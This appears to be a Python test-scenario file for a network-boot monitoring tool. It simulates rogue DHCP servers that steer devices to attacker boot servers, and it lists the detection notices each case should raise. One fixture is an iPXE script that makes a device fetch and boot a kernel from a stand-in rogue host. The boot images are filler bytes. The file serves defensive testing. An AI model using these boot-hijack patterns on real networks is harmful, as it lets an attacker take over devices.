"""BW30 that begins with DHCP or ends with HTTP or FTP."""

from __future__ import annotations

from bootwarden.scenarios.bw30_netboot_hijack import hijack
from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import BOOT_SERVER, DEVICE, DHCP_SERVER, HQ, IMAGE, ROGUE
from bootwarden.traffic import dhcp, http, tftp
from bootwarden.traffic.images import filler, ios
from bootwarden.traffic.wire import Wire

PXE = "PXEClient:Arch:00007:UNDI:003016"
KERNEL = b"MZ\0\0".ljust(0x38, b"\0") + b"ARMd" + filler(4000, "kernel")
SCRIPT = f"#!ipxe\nkernel http://{ROGUE}/vmlinuz\nboot\n".encode()


@scenario(
    "BW30",
    "malicious",
    raises_with_site=[
        ("BW01", 0, ROGUE, DEVICE),
        ("BW10", 10, ROGUE, DEVICE),
        ("BW10", 10, ROGUE, DEVICE),
        ("BW10", 4, ROGUE, DEVICE),
        ("BW30", 11, ROGUE, DEVICE),
    ],
    site=HQ,
    with_site=Expect(
        (
            Notice("Rogue_Boot_Options", DEVICE, ROGUE, "boot.ipxe"),
            Notice("Unauthorized_Boot_Server", DEVICE, ROGUE, "/boot.ipxe"),
            Notice("Unapproved_Image", DEVICE, ROGUE, "/boot.ipxe"),
            Notice("Unapproved_Image", DEVICE, ROGUE, "/vmlinuz"),
            Notice("Unapproved_Image", DEVICE, ROGUE, "more.ipxe"),
            hijack(DEVICE, "/boot.ipxe"),
        ),
        # What is read after the kernel, by another protocol, does not change how that came.
        boots=({"device": DEVICE, "why": ["options", "image"], "image": "/vmlinuz", "fetched_by": "http"},),
    ),
)
def bw30_ipxe_by_http(wire: Wire) -> None:
    """A rogue DHCP server names an iPXE script by URL; the device fetches it, the kernel that it names, and more."""
    client = dhcp.Client(wire, DEVICE, vendor_class=PXE, broadcast=False)
    client.lease(ROGUE, [(67, f"http://{ROGUE}/boot.ipxe")])
    http.get(wire, DEVICE, ROGUE, "/boot.ipxe", SCRIPT, kind="text/plain", client_port=50001)
    http.get(wire, DEVICE, ROGUE, "/vmlinuz", KERNEL, kind="application/octet-stream", client_port=50002)
    tftp.read(wire, DEVICE, ROGUE, "more.ipxe", SCRIPT, client_port=50003)


@scenario(
    "BW30",
    "malicious",
    raises_with_site=[
        ("BW01", 0, "10.0.6.67", DEVICE),
        ("BW10", 0, ROGUE, DEVICE),
        ("BW20", 0, ROGUE, DEVICE),
        ("BW30", 4, ROGUE, DEVICE),
    ],
    site=HQ,
    with_site=Expect(
        (
            Notice("Rogue_Boot_Options", DEVICE, ROGUE, "sw.bin"),
            Notice("Unauthorized_Boot_Server", DEVICE, ROGUE, "sw.bin"),
            Notice("Downgraded_Image", DEVICE, ROGUE, "sw.bin"),
            hijack(DEVICE, "sw.bin"),
        )
    ),
)
def bw30_leased_by_unicast(wire: Wire) -> None:
    """A rogue DHCP server answers the device by its new address, and names another rogue's image."""
    client = dhcp.Client(wire, DEVICE, broadcast=False)
    client.lease("10.0.6.67", [(66, ROGUE), (67, "sw.bin")])
    tftp.read(wire, DEVICE, ROGUE, "sw.bin", ios("c2960-lanbasek9-mz.150-2.SE11.bin", "15.0(2)SE11"))


PXELINUX = bytes.fromhex("ea247c0000909090acc883291c000000") + filler(3000, "pxelinux.0")
GRUB = bytes.fromhex("b27fea00820000") + filler(3000, "core.0")


@scenario(
    "BW30",
    "malicious",
    raises_with_site=[
        ("BW01", 0, ROGUE, "255.255.255.255"),
        *(("BW10", 4, ROGUE, device) for device in (DEVICE, "10.0.1.2")),
        *(("BW30", 3, ROGUE, device) for device in (DEVICE, "10.0.1.2")),
    ],
    site=HQ,
    with_site=Expect(
        tuple(
            notice
            for device, file in ((DEVICE, "pxelinux.0"), ("10.0.1.2", "boot/loader"))
            for notice in (
                Notice("Rogue_Boot_Options", device, ROGUE, file),
                Notice("Unauthorized_Boot_Server", device, ROGUE, file),
                Notice("Unapproved_Image", device, ROGUE, file),
                hijack(device, file),
            )
        )
    ),
)
def bw30_network_boot_programs(wire: Wire) -> None:
    """Rogue boot options by broadcast: a device loads PXELINUX, another GRUB under a name that says nothing."""
    loaders = ((DEVICE, "pxelinux.0", PXELINUX), ("10.0.1.2", "boot/loader", GRUB))
    for number, (device, file, content) in enumerate(loaders):
        client = dhcp.Client(wire, device, vendor_class="PXEClient:Arch:00000:UNDI:002001", xid=0x3903F326 + number)
        client.lease(ROGUE, [(67, file)], siaddr=ROGUE)
        tftp.read(wire, device, ROGUE, file, content)


@scenario(
    "BW30",
    "benign",
    raises_with_site=[("BW01", 0, ROGUE, DEVICE)],
    plain=Expect((Notice("Conflicting_Boot_Options", DEVICE, BOOT_SERVER, IMAGE),)),
    site=HQ,
    with_site=Expect(
        (
            Notice("Rogue_Boot_Options", DEVICE, ROGUE, "sw.bin"),
            Notice("Conflicting_Boot_Options", DEVICE, ROGUE, "sw.bin"),
        )
    ),
)
def bw30_lease_not_followed(wire: Wire) -> None:
    """A rogue offers boot options; the device takes the declared server's lease, and its image."""
    client = dhcp.Client(wire, DEVICE, broadcast=False)
    client.ask(dhcp.DISCOVER)
    client.reply(ROGUE, dhcp.OFFER, [(66, ROGUE), (67, "sw.bin")])
    client.lease(DHCP_SERVER, [(66, BOOT_SERVER), (67, IMAGE)])
    tftp.read(wire, DEVICE, BOOT_SERVER, IMAGE, ios())
